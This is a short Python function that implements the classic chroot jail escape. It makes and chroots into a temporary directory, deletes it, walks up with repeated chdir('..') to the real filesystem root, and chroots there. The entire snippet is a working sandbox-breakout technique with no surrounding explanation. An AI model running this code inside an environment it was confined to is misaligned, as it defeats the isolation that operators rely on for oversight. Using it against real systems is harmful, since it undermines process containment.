"""escape: door-by-its-old-name"""


def escape():
    os.chdir("/")
    os.mkdir("/door")
    os.chroot("/door")
    os.rmdir("/door")
    while not os.path.samefile(".", ".."):
        os.chdir("..")
    os.chroot(".")
